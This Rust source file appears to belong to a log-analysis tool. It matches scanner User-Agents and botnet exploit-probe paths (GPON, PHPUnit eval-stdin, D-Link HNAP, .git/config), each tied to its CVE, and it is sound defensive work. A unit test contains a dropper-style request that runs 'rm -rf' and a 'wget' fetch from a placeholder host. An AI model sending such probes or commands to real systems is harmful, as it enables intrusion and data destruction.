//! Built-in knowledge beside Sigma: the User-Agents that scanners and
//! attack tools send by default, and the commonest exploit probes of the
//! botnets Levee's users face. Each entry cites where its text comes from
//! (the tool's own source or documentation, or the advisory of the
//! vulnerability probed). Findings are `known_tool` (low) and
//! `exploit_probe` (medium), per client; `--no-builtin` turns both off.
//!
//! What a `User-Agent` claims is not proof (anyone can send it, and a
//! careful attacker changes it): these findings say what was claimed.

use aho_corasick::AhoCorasick;

/// A tool, by the text its default `User-Agent` contains (lower case).
#[derive(Debug, Clone, Copy)]
pub struct Tool {
    pub name: &'static str,
    pub needle: &'static str,
    /// Where the default `User-Agent` is defined or documented.
    pub source: &'static str,
}

pub const TOOLS: [Tool; 10] = [
    Tool {
        name: "sqlmap",
        needle: "sqlmap/",
        source: "sqlmap lib/core/settings.py: DEFAULT_USER_AGENT = \"%s (%s)\" % (VERSION_STRING, SITE), VERSION_STRING = \"sqlmap/%s#%s\"",
    },
    Tool {
        name: "Nikto",
        needle: "(nikto/",
        source: "Nikto program/nikto.conf: USERAGENT=Mozilla/5.00 (Nikto/@VERSION) (Evasions:@EVASIONS) (Test:@TESTID)",
    },
    Tool {
        name: "Nmap Scripting Engine",
        needle: "nmap scripting engine",
        source: "Nmap nselib/http.lua: USER_AGENT default \"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\"",
    },
    Tool {
        name: "ffuf",
        needle: "fuzz faster u fool",
        source: "ffuf (github.com/ffuf/ffuf): default User-Agent \"Fuzz Faster U Fool v<version>\"",
    },
    Tool {
        name: "WPScan",
        needle: "wpscan v",
        source: "WPScan (github.com/wpscanteam/wpscan): default User-Agent \"WPScan v<version> (https://wpscan.com/wordpress-security-scanner)\"",
    },
    Tool {
        name: "Hydra",
        needle: "(hydra)",
        source: "THC Hydra (github.com/vanhauser-thc/thc-hydra), http modules: User-Agent \"Mozilla/5.0 (Hydra)\"",
    },
    Tool {
        name: "gobuster",
        needle: "gobuster/",
        source: "gobuster (github.com/OJ/gobuster): default User-Agent \"gobuster/<version>\"",
    },
    Tool {
        name: "masscan",
        needle: "masscan/",
        source: "masscan (github.com/robertdavidgraham/masscan), HTTP banner probe: \"masscan/1.3 (https://github.com/robertdavidgraham/masscan)\"",
    },
    Tool {
        name: "zgrab",
        needle: "zgrab/",
        source: "ZGrab 2.0 (github.com/zmap/zgrab2), http module: default User-Agent \"Mozilla/5.0 zgrab/0.x\"",
    },
    Tool {
        name: "DirBuster",
        needle: "dirbuster",
        source: "OWASP DirBuster: User-Agent \"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)\"",
    },
];

/// An exploit probe, by a path it requests (lower case, contained).
#[derive(Debug, Clone, Copy)]
pub struct Probe {
    pub what: &'static str,
    pub needle: &'static str,
    pub source: &'static str,
}

pub const PROBES: [Probe; 8] = [
    Probe {
        what: "GPON router authentication bypass",
        needle: "/gponform/diag_form",
        source: "CVE-2018-10561 / CVE-2018-10562 (Dasan GPON), used by Mirai variants",
    },
    Probe {
        what: "PHPUnit eval-stdin remote code execution",
        needle: "/phpunit/src/util/php/eval-stdin.php",
        source: "CVE-2017-9841",
    },
    Probe {
        what: "Realtek/Boa router login (Mirai-family credential attacks)",
        needle: "/boaform/admin/formlogin",
        source:
            "Boa web server admin form probed by Mirai variants (e.g. CVE-2021-35394 campaigns)",
    },
    Probe {
        what: "D-Link HNAP remote code execution",
        needle: "/hnap1",
        source: "CVE-2015-2051 (D-Link HNAP SOAPAction), used by Mirai variants",
    },
    Probe {
        what: "Netgear setup.cgi command injection",
        needle: "/setup.cgi?next_file=netgear.cfg",
        source:
            "Netgear DGN1000/DGN2200 setup.cgi unauthenticated RCE (EDB-ID 25978), used by Mozi",
    },
    Probe {
        what: "Linksys/shell command injection (Mirai droppers)",
        needle: "/shell?cd+/tmp",
        source: "MVPower DVR shell endpoint RCE, used by Mirai droppers",
    },
    Probe {
        what: "Spring Boot Actuator environment disclosure",
        needle: "/actuator/env",
        source: "Spring Boot Actuator documentation: /actuator/env exposes configuration",
    },
    Probe {
        what: "Git repository configuration disclosure",
        needle: "/.git/config",
        source: "exposed .git directories (OWASP WSTG-CONF-04)",
    },
];

/// The tool a `User-Agent` names, if any.
pub fn tool_of(ua: &str) -> Option<&'static Tool> {
    static AC: std::sync::LazyLock<Option<AhoCorasick>> =
        std::sync::LazyLock::new(|| any_case(TOOLS.iter().map(|t| t.needle)));
    first(&AC, ua).and_then(|i| TOOLS.get(i))
}

/// The exploit a request target probes, if any.
pub fn probe_of(target: &str) -> Option<&'static Probe> {
    static AC: std::sync::LazyLock<Option<AhoCorasick>> =
        std::sync::LazyLock::new(|| any_case(PROBES.iter().map(|p| p.needle)));
    first(&AC, target).and_then(|i| PROBES.get(i))
}

/// One automaton for a list's needles (lower case), in any ASCII case.
pub(crate) fn any_case<'a>(needles: impl Iterator<Item = &'a str>) -> Option<AhoCorasick> {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(needles)
        .ok()
}

/// The first needle of the list (in its order) that `hay` contains.
pub(crate) fn first(ac: &Option<AhoCorasick>, hay: &str) -> Option<usize> {
    let ac = ac.as_ref()?;
    if !ac.is_match(hay) {
        // Nearly always: a plain search is the faster one.
        return None;
    }
    ac.find_overlapping_iter(hay)
        .map(|m| m.pattern().as_usize())
        .min()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Real default User-Agents, as the tools send them.
    #[test]
    fn the_tools_default_user_agents_are_named() {
        for (ua, name) in [
            ("sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap"),
            ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "Nikto"),
            (
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                "Nmap Scripting Engine",
            ),
            ("Fuzz Faster U Fool v2.1.0-dev", "ffuf"),
            ("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "WPScan"),
            ("Mozilla/5.0 (Hydra)", "Hydra"),
            ("gobuster/3.6", "gobuster"),
            ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"),
            ("Mozilla/5.0 zgrab/0.x", "zgrab"),
            (
                "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
                "DirBuster",
            ),
        ] {
            assert_eq!(tool_of(ua).map(|t| t.name), Some(name), "{ua}");
        }
        for ua in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "curl/8.5.0",
        ] {
            assert!(tool_of(ua).is_none(), "{ua}");
        }
    }

    #[test]
    fn botnet_probes_are_named() {
        assert!(probe_of("/GponForm/diag_Form?images/").is_some());
        assert!(probe_of("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php").is_some());
        assert!(probe_of("/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x").is_some());
        assert!(probe_of("/index.html").is_none());
    }
}
